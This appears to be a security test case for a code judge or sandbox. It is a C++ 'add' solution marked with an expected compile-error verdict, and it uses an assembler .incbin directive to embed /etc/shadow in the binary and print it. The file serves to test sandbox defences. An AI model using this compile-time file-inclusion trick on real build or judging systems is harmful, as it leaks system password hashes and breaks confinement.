// Secrets in the compiled program.
// problem: add
// verdicts: CE
asm(".data\nsecret: .incbin \"/etc/shadow\"\nsecret_end: .byte 0\n");
extern "C" char secret[], secret_end[];
class Solution { public: int add(int a, int b) { puts("BREACH"); fwrite(secret, 1, secret_end - secret, stdout); return 0; } };
